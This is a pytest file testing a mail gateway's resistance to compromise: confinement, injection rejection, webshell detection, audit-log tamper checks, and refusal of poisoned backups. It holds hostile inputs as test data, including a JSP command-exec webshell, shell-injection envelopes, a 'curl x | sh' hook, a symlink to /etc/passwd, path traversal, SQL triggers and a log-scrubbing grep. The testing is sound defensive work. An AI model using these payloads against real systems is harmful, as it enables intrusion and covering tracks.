"""Compromise resilience: the "Management plane and recovery" rows of THREATS.md that do not need the
portal. Exposure by default, writable code and hidden shell paths (the gateway under its own seccomp
filter and Landlock rules), poisoned backups, log editing, a syslog collector going down and coming back,
and a rebuild from a backup taken while mail flows."""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import signal
import socket
import subprocess
import tarfile
import threading
import time
from pathlib import Path

import pytest

from helpers import BIN, Gateway, Sink, free_port, gateway_env, to_toml, wait_until


def cli(gw: Gateway, *args: str, timeout: float = 120) -> subprocess.CompletedProcess:
    return subprocess.run([BIN, "--config", str(gw.config), *args], capture_output=True, text=True,
                          timeout=timeout, env=gateway_env())


def message(mid: str, subject: str = "hello") -> bytes:
    return (f"From: a@ext.test\r\nTo: b@our.test\r\nSubject: {subject}\r\nMessage-ID: <{mid}>\r\n\r\n"
            f"body of {mid}\r\n").encode()


def proc_status(pid: int) -> dict:
    out = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        k, _, v = line.partition(":")
        out[k] = v.strip()
    return out


def listening(pid: int) -> set[str]:
    """Addresses the process listens on (TCP), from /proc."""
    inodes = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        try:
            target = os.readlink(fd)
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    found = set()
    for table, v6 in (("tcp", False), ("tcp6", True)):
        for line in Path(f"/proc/{pid}/net/{table}").read_text().splitlines()[1:]:
            f = line.split()
            if f[3] != "0A" or f[9] not in inodes:
                continue
            addr, port = f[1].split(":")
            if v6:
                ip = "v6:" + addr
            else:
                ip = ".".join(str(int(addr[i:i + 2], 16)) for i in (6, 4, 2, 0))
            found.add(f"{ip}:{int(port, 16)}")
    return found


def verify(gw: Gateway) -> tuple[int, dict]:
    r = cli(gw, "audit", "verify", "--json")
    return r.returncode, json.loads(r.stdout)


# -- exposed by default, writable code, hidden shell path ---------------------------------------------

def test_fresh_install_listens_only_for_mail_and_is_confined(gateway_factory, sink):
    gw = gateway_factory({"relay": {"next_hop": sink.next_hop}})
    pid = gw.proc.pid
    # SMTP on the mail address; the management plane (portal, admin console, API) on loopback only.
    assert listening(pid) == {f"127.0.0.1:{gw.port}", f"127.0.0.1:{gw.portal_port}"}, listening(pid)
    st = proc_status(pid)
    assert st["Seccomp"] == "2" and int(st["Seccomp_filters"]) >= 1, st
    assert st["NoNewPrivs"] == "1", st
    start = next(json.loads(l) for l in gw.audit_lines() if '"gateway.start"' in l)
    assert start["details"]["sandbox"] == "landlock=enforced seccomp=enforced", start
    # Mail still flows under the filter, and nothing was started.
    gw.send("a@ext.test", ["b@our.test"], message("m1@x"))
    sink.wait_for_message("m1@x")
    children = [Path(f"/proc/{pid}/task/{t}/children").read_text().split() for t in os.listdir(f"/proc/{pid}/task")]
    assert not any(children), children
    doctor = cli(gw, "doctor", "--json")
    report = json.loads(doctor.stdout)
    assert not [f for f in report["findings"] if f["check"] == "exposure"], report


def test_shell_metacharacters_in_the_envelope_run_nothing_under_the_filter(gateway_factory, sink, tmp_path):
    gw = gateway_factory({"relay": {"next_hop": sink.next_hop}})
    marker = tmp_path / "pwned"
    with gw.raw() as c:
        c.read_reply()
        c.command("EHLO c")
        code, _ = c.command(f"MAIL FROM:<;touch {marker};>")
        assert code == 501
        code, _ = c.command("MAIL FROM:<$(touch%20" + str(marker) + ")@a.test>")
        assert code >= 500
    assert not marker.exists()
    gw.send("a@ext.test", ["b@our.test"], message("after@x"))
    sink.wait_for_message("after@x")


def test_portal_role_serves_http_and_no_smtp(gateway_factory):
    gw = gateway_factory(start=False)
    proc = subprocess.Popen([BIN, "--config", str(gw.config), "serve", "--role", "portal"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=gateway_env())
    try:
        wait_until(lambda: listening(proc.pid) == {f"127.0.0.1:{gw.portal_port}"}, timeout=30,
                   what="the portal alone listening")
        assert proc.poll() is None
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=30)


# -- doctor -----------------------------------------------------------------------------------------

def test_doctor_finds_planted_files_and_a_replaced_binary(gateway_factory, sink):
    gw = gateway_factory({"relay": {"next_hop": sink.next_hop}})
    gw.send("a@ext.test", ["b@our.test"], message("d1@x"))
    sink.wait_for_message("d1@x")
    assert cli(gw, "doctor", "--record-binary").returncode == 0
    clean = cli(gw, "doctor", "--json")
    report = json.loads(clean.stdout)
    assert clean.returncode == 0 and report["ok"], report
    planted = [gw.data_dir / "x.jsp", gw.data_dir / "spool" / "active" / "backdoor.sh",
               gw.data_dir / "mailboxes" / "b@our.test" / "new" / "shell.php"]
    for p in planted:
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text("<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>")
    os.chmod(gw.data_dir / "keys", 0o755)
    r = cli(gw, "doctor", "--json")
    report = json.loads(r.stdout)
    assert r.returncode == 1 and not report["ok"]
    foreign = {f["path"] for f in report["findings"] if f["check"] == "foreign-file"}
    assert {str(p) for p in planted} <= foreign, report
    assert any(f["check"] == "permissions" and f["path"].endswith("/keys") for f in report["findings"]), report
    # A binary other than the recorded one.
    (gw.data_dir / "keys" / "binary.sha256").write_text("0" * 64 + "  /usr/bin/portcullis\n")
    report = json.loads(cli(gw, "doctor", "--json").stdout)
    assert any(f["check"] == "binary" and f["severity"] == "error" for f in report["findings"]), report


# -- the audit trail --------------------------------------------------------------------------------

class SyslogReceiver:
    """An RFC 5424 collector over TCP with octet-counting framing, on loopback."""

    def __init__(self, port: int | None = None):
        self.port = port or free_port()
        self.records: list[dict] = []
        self.raw: list[bytes] = []
        self.lock = threading.Lock()
        self.sock: socket.socket | None = None
        self.conns: list[socket.socket] = []

    def start(self) -> "SyslogReceiver":
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", self.port))
        self.sock.listen(16)
        threading.Thread(target=self._accept, args=(self.sock,), daemon=True).start()
        return self

    def _accept(self, listener):
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            self.conns.append(conn)
            threading.Thread(target=self._read, args=(conn,), daemon=True).start()

    def _read(self, conn):
        buf = b""
        while True:
            try:
                chunk = conn.recv(65536)
            except OSError:
                return
            if not chunk:
                return
            buf += chunk
            while b" " in buf:
                size, _, rest = buf.partition(b" ")
                n = int(size)
                if len(rest) < n:
                    break
                msg, buf = rest[:n], rest[n:]
                body = msg.split("\ufeff".encode(), 1)[1]
                with self.lock:
                    self.raw.append(msg)
                    self.records.append(json.loads(body))

    def stop(self):
        if self.sock:
            try:
                self.sock.shutdown(socket.SHUT_RDWR)  # wakes the thread blocked in accept()
            except OSError:
                pass
            self.sock.close()
            self.sock = None
        for c in self.conns:
            try:
                c.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            c.close()
        self.conns = []

    def seqs(self) -> set[int]:
        with self.lock:
            return {r["seq"] for r in self.records}


def reload(gw: Gateway, times: int = 1):
    for _ in range(times):
        before = gw.logs().count("configuration reloaded")
        gw.signal(signal.SIGHUP)
        wait_until(lambda: gw.logs().count("configuration reloaded") > before, what="reload")


def test_log_editing_is_caught_and_the_forwarded_copy_keeps_the_lines(gateway_factory, sink, tmp_path):
    rx = SyslogReceiver().start()
    try:
        gw = gateway_factory({"relay": {"next_hop": sink.next_hop},
                              "audit": {"syslog_address": f"127.0.0.1:{rx.port}", "checkpoint_interval": "1s"}})
        reload(gw, 3)
        assert cli(gw, "queue", "flush").returncode == 0
        reload(gw, 2)
        gw.stop()
        lines = gw.audit_lines()
        assert [json.loads(l)["action"] for l in lines][:2] == ["config.load", "gateway.start"]
        assert json.loads(lines[-1])["action"] == "gateway.stop"
        wait_until(lambda: rx.seqs() >= set(range(1, len(lines) + 1)), what="all records at the collector")
        code, report = verify(gw)
        assert code == 0 and report["ok"] and report["unsigned_records"] == 0, report
        pristine = (gw.data_dir / "audit" / "audit.log").read_bytes()
        log = gw.data_dir / "audit" / "audit.log"

        def broken(expected_kind, expected_line):
            code, report = verify(gw)
            assert code == 1 and not report["ok"], report
            p = report["problem"]
            assert p["kind"] == expected_kind and p["line"] == expected_line, p
            text = cli(gw, "audit", "verify").stdout
            assert "first bad record" in text and f"line {expected_line}" in text, text
            log.write_bytes(pristine)

        # The attacker's own move: grep -v word audit.log > t && mv t audit.log
        flush_line = next(i for i, l in enumerate(lines) if "queue.flush" in l) + 1
        subprocess.run(f"grep -v queue.flush {log} > {tmp_path}/t && mv {tmp_path}/t {log}", shell=True, check=True)
        broken("sequence", flush_line)
        # The forwarded copy still has the removed line, byte for byte.
        removed = json.loads(lines[flush_line - 1])
        assert any(r == removed for r in rx.records), removed
        # Flip one byte inside record 3.
        data = bytearray(pristine)
        start = sum(len(l) + 1 for l in lines[:2])
        data[start + lines[2].index('"actor":"') + 9] ^= 0x01
        log.write_bytes(bytes(data))
        broken("modified", 3)
        # Reorder two records.
        swapped = lines[:3] + [lines[4], lines[3]] + lines[5:]
        log.write_text("".join(l + "\n" for l in swapped))
        broken("sequence", 4)
        # Truncate: drop the last two records.
        log.write_text("".join(l + "\n" for l in lines[:-2]))
        broken("truncated", len(lines) - 1)
        # Replace the whole log with a shorter chain that is valid on its own (another gateway's).
        other = gateway_factory({"relay": {"next_hop": sink.next_hop}}, name="other")
        other.stop()
        shutil.copy(other.data_dir / "audit" / "audit.log", log)
        code, report = verify(gw)
        assert code == 1 and report["problem"]["kind"] in ("checkpoint_mismatch", "truncated"), report
    finally:
        rx.stop()


def test_collector_down_then_back_leaves_no_gap(gateway_factory, sink):
    rx = SyslogReceiver().start()
    try:
        gw = gateway_factory({"relay": {"next_hop": sink.next_hop},
                              "audit": {"syslog_address": f"127.0.0.1:{rx.port}", "syslog_retry_max": "500ms",
                                        "syslog_alert_backlog": 5}})
        # Every start record (the portal's first-start account included) is at the collector before it
        # goes down, so the outage starts between records, not in the middle of one being sent.
        time.sleep(0.5)
        wait_until(lambda: rx.seqs() >= set(range(1, len(gw.audit_lines()) + 1)) >= {1, 2},
                   what="start records at the collector")
        rx.stop()
        before = rx
        # While the collector is down: records pile up, mail still flows, an alert is raised.
        for i in range(4):
            reload(gw)
            assert cli(gw, "queue", "flush").returncode == 0
        gw.send("a@ext.test", ["b@our.test"], message("during-outage@x"))
        sink.wait_for_message("during-outage@x")
        wait_until(lambda: "backlog passed" in gw.logs(), what="backlog alert", timeout=20)
        time.sleep(2)
        head = len(gw.audit_lines())
        assert head >= 11
        rx = SyslogReceiver(rx.port).start()
        # No gap: what the collector got before the outage and after it covers every record (records it
        # already had may or may not be sent again, depending on where the forward cursor was saved).
        wait_until(lambda: before.seqs() | rx.seqs() >= set(range(1, head + 1)), timeout=30,
                   what=f"catch-up to seq {head}")
        actions = {r["action"] for r in rx.records}
        assert "audit.forward_backlog" in actions or len(gw.audit_lines()) > head
        # What the collector has is what the log has, record for record.
        by_seq = {r["seq"]: r for r in before.records + rx.records}
        for line in gw.audit_lines()[:head]:
            rec = json.loads(line)
            assert by_seq[rec["seq"]] == rec
        # The cursor is saved after the batch the collector already holds: give it a moment.
        cursor_file = gw.data_dir / "audit" / "forward.cursor"
        wait_until(lambda: json.loads(cursor_file.read_text())["seq"] >= head, timeout=10,
                   what=f"forward cursor at {head}")
    finally:
        rx.stop()


# -- backup and restore -----------------------------------------------------------------------------

def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def plain_manifest(archive: Path) -> dict:
    with tarfile.open(archive) as t:
        return json.loads(t.extractfile("manifest.json").read())


def test_rebuild_from_a_backup_taken_while_mail_flows(gateway_factory, tmp_path):
    down = Sink()  # the next hop is down: mail stays queued
    gw = gateway_factory({"relay": {"next_hop": down.next_hop, "retry_min": "1h", "retry_max": "2h"}})
    ids = [f"q{i}@x" for i in range(5)]
    for mid in ids:
        gw.send("a@ext.test", ["b@our.test"], message(mid))
    gtube = b"XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-UBE-TEST-EMAIL*C.34X"
    gw.send("a@ext.test", ["b@our.test"], message("gtube@x").replace(b"body of", gtube + b"\r\n"))
    spam = tmp_path / "spam.eml"
    spam.write_bytes(message("learned@x", "cheap pills"))
    learned = cli(gw, "learn", "--spam", str(spam))
    assert learned.returncode == 0, learned.stderr
    wait_until(lambda: len(gw.queue_ids("active")) == 5 and len(gw.queue_ids("quarantine")) == 1,
               what=f"queued: {gw.queue_ids('active')} {gw.queue_ids('quarantine')}\n{gw.logs()}")
    # Mail keeps arriving while the backup is taken.
    stop = threading.Event()
    sent_during: list[str] = []

    def keep_sending():
        n = 0
        while not stop.is_set():
            mid = f"during{n}@x"
            gw.send("a@ext.test", ["b@our.test"], message(mid))
            sent_during.append(mid)
            n += 1

    sender = threading.Thread(target=keep_sending)
    sender.start()
    passphrase = tmp_path / "pass"
    passphrase.write_text("correct horse battery staple\n")
    archive = tmp_path / "backup.pcb"
    try:
        r = cli(gw, "backup", "--out", str(archive), "--passphrase-file", str(passphrase))
    finally:
        stop.set()
        sender.join()
    assert r.returncode == 0, r.stderr
    assert not archive.read_bytes().startswith(b"config/"), "the archive is encrypted"
    assert cli(gw, "backup", "--verify", str(archive), "--passphrase-file", str(passphrase)).returncode == 0
    assert cli(gw, "backup", "--verify", str(archive)).returncode != 0, "encrypted: needs the passphrase"
    gw.stop()
    head_before = gw.audit_lines()
    # Wipe the machine.
    shutil.rmtree(gw.data_dir)
    # A fresh install on another port, restored from the archive.
    sink = Sink().start()
    try:
        new = Gateway(tmp_path, {"relay": {"next_hop": sink.next_hop}}, name="restored")
        r = cli(new, "restore", str(archive), "--passphrase-file", str(passphrase))
        assert r.returncode == 0, r.stderr
        # The shared part has the layout's modes at once (a portal of its own may start first).
        modes = {p: (new.data_dir / p).stat().st_mode & 0o7777 for p in ("", "store", "audit", "keys", "spool")}
        assert modes == {"": 0o710, "store": 0o2770, "audit": 0o2770, "keys": 0o2750, "spool": 0o700}, modes
        restored_log = new.audit_lines()
        # Every item is there, byte for byte: check against a plain copy of the manifest.
        plain = tmp_path / "plain.tar"
        r = cli(new, "backup", "--out", str(plain))  # the restored data, archived again without encryption
        assert r.returncode == 0, r.stderr
        manifest = plain_manifest(plain)
        paths = {i["path"] for i in manifest["items"]}
        assert "config/portcullis.toml" in paths and "store.jsonl" in paths and "portcullis.db" not in paths
        assert "audit/audit.log" in paths and "keys/audit-signing.key" in paths
        assert (new.data_dir / "config" / "portcullis.toml").read_bytes() == gw.config.read_bytes()
        active = new.queue_ids("active")
        assert len(new.queue_ids("quarantine")) == 1 and len(active) >= 5
        # The restored log continues the old chain: the old records, then the restore.
        carried = restored_log[:-1]
        assert len(carried) >= 2 and carried == head_before[:len(carried)]
        assert json.loads(restored_log[-1])["action"] == "backup.restore"
        code, report = verify(new)
        assert code == 0, report
        queued = [m for m in ids + sent_during
                  if any(f"<{m}>".encode() in (new.data_dir / "spool" / "active" / q).read_bytes() for q in active)]
        assert set(ids) <= set(queued)
        new.start()
        try:
            for mid in queued:
                got = sink.wait_for_message(mid)
                assert len(got) == 1, (mid, len(got))
            new.send("a@ext.test", ["b@our.test"], message("next@x"))
            assert len(sink.wait_for_message("next@x")) == 1
            time.sleep(1)
            assert len(sink.received()) == len(queued) + 1, "every queued message once, nothing more"
            doctor = json.loads(cli(new, "doctor", "--json").stdout)
            assert not [f for f in doctor["findings"] if f["check"] in ("foreign-file", "audit") and f["severity"] != "info"], doctor
        finally:
            new.kill()
    finally:
        sink.stop()


def poisoned(valid: Path, out: Path, extra: list[tuple[tarfile.TarInfo, bytes | None]], manifest_extra: dict | None = None,
             list_extra: bool = True) -> Path:
    """A copy of `valid` (an unencrypted archive) with `extra` entries and a manifest that lists them, so
    only the poison itself can be the reason for a refusal."""
    with tarfile.open(valid) as src, tarfile.open(out, "w") as dst:
        manifest = json.loads(src.extractfile("manifest.json").read())
        for m in src.getmembers():
            if m.name != "manifest.json":
                dst.addfile(m, src.extractfile(m))
        for info, data in extra:
            dst.addfile(info, io.BytesIO(data) if data is not None else None)
            if list_extra and data is not None:
                manifest["items"].append({"path": info.name, "size": len(data),
                                          "sha256": hashlib.sha256(data).hexdigest()})
        manifest.update(manifest_extra or {})
        body = json.dumps(manifest).encode()
        info = tarfile.TarInfo("manifest.json")
        info.size = len(body)
        dst.addfile(info, io.BytesIO(body))
    return out


def with_store(valid: Path, out: Path, edit) -> Path:
    """A copy of `valid` whose store export (`store.jsonl`) has its lines (the end line aside) passed
    through `edit`, then its end line's counts and checksum and the manifest made right again: only the
    edit itself can be why the archive is refused."""
    with tarfile.open(valid) as src, tarfile.open(out, "w") as dst:
        manifest = json.loads(src.extractfile("manifest.json").read())
        lines = src.extractfile("store.jsonl").read().splitlines(keepends=True)
        end = json.loads(lines.pop())
        lines = edit(lines)
        counts = []
        for line in lines:
            if line.startswith(b'{"line":"table"'):
                counts.append([json.loads(line)["name"], 0])
            elif line.startswith(b"["):
                counts[-1][1] += 1
        body = b"".join(lines)
        end.update(rows=counts, sha256=hashlib.sha256(body).hexdigest())
        store = body + json.dumps(end, separators=(",", ":")).encode() + b"\n"
        for m in src.getmembers():
            if m.name == "store.jsonl":
                m.size = len(store)
                dst.addfile(m, io.BytesIO(store))
            elif m.name != "manifest.json":
                dst.addfile(m, src.extractfile(m))
        for item in manifest["items"]:
            if item["path"] == "store.jsonl":
                item.update(size=len(store), sha256=hashlib.sha256(store).hexdigest())
        data = json.dumps(manifest).encode()
        info = tarfile.TarInfo("manifest.json")
        info.size = len(data)
        dst.addfile(info, io.BytesIO(data))
    return out


def store_trigger(lines: list[bytes]) -> list[bytes]:
    """A table that is not the store's, carrying SQL that would run later if it were ever executed."""
    return lines + [b'{"line":"table","name":"sqlite_master","columns":["type","name","sql"]}\n',
                    b'["trigger","t","CREATE TRIGGER t AFTER INSERT ON accounts BEGIN DELETE FROM accounts; END"]\n']


def store_sql_column(lines: list[bytes]) -> list[bytes]:
    """A column the table does not have, holding SQL text."""
    at = next(i for i, l in enumerate(lines) if l.startswith(b'{"line":"table","name":"accounts"'))
    marker = json.loads(lines[at])
    marker["columns"].append("sql")
    lines[at] = json.dumps(marker, separators=(",", ":")).encode() + b"\n"
    return [l[:-2] + b',"DROP TABLE accounts"]\n' if i > at and l.startswith(b"[") else l
            for i, l in enumerate(lines)]


def old_style_store(valid: Path, out: Path) -> Path:
    """An archive as older versions made them: the store as a raw SQLite file (here with a trigger)."""
    db = b"SQLite format 3\0" + b"CREATE TRIGGER t AFTER INSERT ON accounts BEGIN DELETE FROM accounts; END"
    return poisoned(valid, out, [entry("portcullis.db", db)])


def entry(name: str, data: bytes = b"x", mode: int = 0o600, kind=tarfile.REGTYPE, link: str = "") -> tuple:
    info = tarfile.TarInfo(name)
    info.type, info.mode, info.linkname = kind, mode, link
    info.size = len(data) if kind == tarfile.REGTYPE else 0
    return info, data if kind == tarfile.REGTYPE else None


def test_poisoned_backups_are_refused_and_change_nothing(gateway_factory, sink, tmp_path):
    gw = gateway_factory({"relay": {"next_hop": sink.next_hop}})
    gw.send("a@ext.test", ["b@our.test"], message("p1@x"))
    sink.wait_for_message("p1@x")
    valid = tmp_path / "valid.tar"
    assert cli(gw, "backup", "--out", str(valid)).returncode == 0
    target = tmp_path / "target"
    restored = Gateway(tmp_path, {"data_dir": str(target)}, name="restorer")
    r = cli(restored, "backup", "--verify", str(valid))
    assert r.returncode == 0, r.stdout + r.stderr
    bad_config = b'[smtp]\nlisten = ["0.0.0.0:25"]\nexec_hook = "/bin/sh -c id"\n'
    cases = {
        "unknown entry (SQL)": ([entry("restore.sql", b"DROP TABLE users; CREATE TRIGGER t ...")], None),
        "script in rules": ([entry("rules/local/hook.sh", b"#!/bin/sh\nid\n")], None),
        "webshell": ([entry("x.jsp", b"<% exec %>")], None),
        "template": ([entry("templates/index.html", b"{{ config }}")], None),
        "unknown config key": ([entry("config/portcullis.toml", bad_config)], None),
        "symlink": ([entry("spool/active/0123456789abcdef", kind=tarfile.SYMTYPE, link="/etc/passwd")], None),
        "hardlink": ([entry("spool/active/0123456789abcdef", kind=tarfile.LNKTYPE, link="audit/audit.log")], None),
        "device": ([entry("spool/active/0123456789abcdef", kind=tarfile.CHRTYPE)], None),
        "absolute path": ([entry("/etc/cron.d/x", b"* * * * * root id\n")], None),
        "dot-dot path": ([entry("spool/../../srv/x.jsp", b"x")], None),
        "executable": ([entry("rules/local/extra.toml", b"[scores]\n", mode=0o755)], None),
        "huge field": ([entry("keys/audit-signing.pub", b"a" * 100_000)], None),
        "ELF in the spool": ([entry("spool/active/0123456789abcdef", b"\x7fELF\x02\x01\x01" + b"\0" * 64)], None),
        "unknown manifest key": ([], {"post_restore_hook": "curl x | sh"}),
        "checksum mismatch": ([], {"hostname": "x"}),
        "store: a trigger as a table": ([], None),
        "store: SQL in an unknown column": ([], None),
        "store: the raw SQLite file of an older version": ([], None),
    }
    store_cases = {
        "store: a trigger as a table": lambda a: with_store(valid, a, store_trigger),
        "store: SQL in an unknown column": lambda a: with_store(valid, a, store_sql_column),
        "store: the raw SQLite file of an older version": lambda a: old_style_store(valid, a),
    }
    store_reasons = {
        "store: a trigger as a table": 'unknown table "sqlite_master"',
        "store: SQL in an unknown column": 'unknown column "sql" in table accounts',
        "store: the raw SQLite file of an older version": "raw SQLite files",
    }
    for name, (extra, manifest_extra) in cases.items():
        archive = poisoned(valid, tmp_path / f"{name}.tar", extra, manifest_extra)
        if name == "checksum mismatch":
            # Change an item's bytes but keep the manifest's checksum.
            archive = tmp_path / "tampered.tar"
            with tarfile.open(valid) as src, tarfile.open(archive, "w") as dst:
                for m in src.getmembers():
                    data = src.extractfile(m).read()
                    if m.name == "config/portcullis.toml":
                        data = data.replace(b"our.test", b"evil.test")
                        m.size = len(data)
                    dst.addfile(m, io.BytesIO(data))
        if name.startswith("store: "):
            archive = store_cases[name](archive)
        r = cli(restored, "restore", str(archive))
        assert r.returncode != 0, (name, r.stdout, r.stderr)
        assert "nothing was restored" in r.stderr, (name, r.stderr)
        if name.startswith("store: "):
            assert store_reasons[name] in r.stderr, (name, r.stderr)
        assert not target.exists(), name
        assert not [p for p in tmp_path.iterdir() if ".restore-" in p.name], name
        assert cli(restored, "backup", "--verify", str(archive)).returncode == 1, name
    assert not Path("/etc/cron.d/x").exists()
    # Old state intact: restore never merges into a data directory that is in use.
    r = cli(gw, "restore", str(valid))
    assert r.returncode != 0 and "fresh" in r.stderr, r.stderr
    # The valid one restores.
    assert cli(restored, "restore", str(valid)).returncode == 0
    assert (target / "audit" / "audit.log").exists()
    assert (target / "store" / "portcullis.db").exists() and not (target / "store.jsonl").exists()
